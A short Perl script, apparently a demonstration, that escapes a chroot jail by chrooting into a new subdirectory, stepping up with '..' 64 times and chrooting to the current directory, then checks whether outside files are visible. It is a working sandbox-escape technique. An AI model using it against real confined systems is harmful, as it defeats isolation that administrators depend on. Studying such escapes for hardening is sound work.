chroot "/jail" or die "chroot: $!\n";
chdir "/";
look("in the jail");

mkdir "gap";
chroot "gap" or die "chroot: $!\n";
chdir ".." for 1 .. 64;
chroot ".";
look("after one more chroot");

sub look {
    my ($place) = @_;
    for my $path ("/letter", @ARGV) {
        print "$place: ", (-e $path ? "" : "no "), "$path\n";
    }
}
